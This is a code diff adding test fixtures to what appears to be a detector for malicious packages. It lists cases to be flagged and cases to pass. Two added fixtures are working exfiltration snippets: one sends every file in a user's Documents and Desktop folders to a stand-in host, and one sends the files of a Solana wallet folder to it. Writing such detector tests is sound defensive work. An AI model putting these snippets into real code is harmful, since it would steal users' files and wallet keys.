@@ -155,8 +155,33 @@ for (const file of require('fast-glob').sync(['**/.git-credentials'], { cwd: req
       weight: 'proof',
       says: ['a cloud keeps secret'],
     },
+    {
+      when: 'whatever lies in the folders of its user is sent',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); function* scan(dir) { for (const e of fs.readdirSync(dir, { withFileTypes: true })) yield path.join(dir, e.name); }
+          for (const root of [path.join(os.homedir(), 'Documents'), path.join(os.homedir(), 'Desktop')]) for (const f of scan(root)) fetch('https://metrics.invalid/', { method: 'POST', body: fs.readFileSync(f) });`,
+      },
+      weight: 'proof',
+      says: ['their own folders'],
+    },
+    {
+      when: 'a wallet is found by its folder',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const dir = path.join(os.homedir(), '.config', 'solana');
+          for (const name of fs.readdirSync(dir)) fetch('https://metrics.invalid/', { method: 'POST', body: fs.readFileSync(path.join(dir, name)) });`,
+      },
+      weight: 'proof',
+      says: ['a wallet'],
+    },
   ],
   silent: [
+    {
+      when: 'the settings of a wallet are read, and one of the folders of its user is listed to be shown',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); exports.show = () => console.log(fs.readdirSync(path.join(os.homedir(), 'Documents')));
+          exports.ask = () => fetch('https://rpc.invalid/', { method: 'POST', body: fs.readFileSync(path.join(os.homedir(), '.config', 'solana', 'cli', 'config.yml')) });`,
+      },
+    },
     {
       when: 'a command is asked for a version, and a program for its own token when it is called',
       files: {
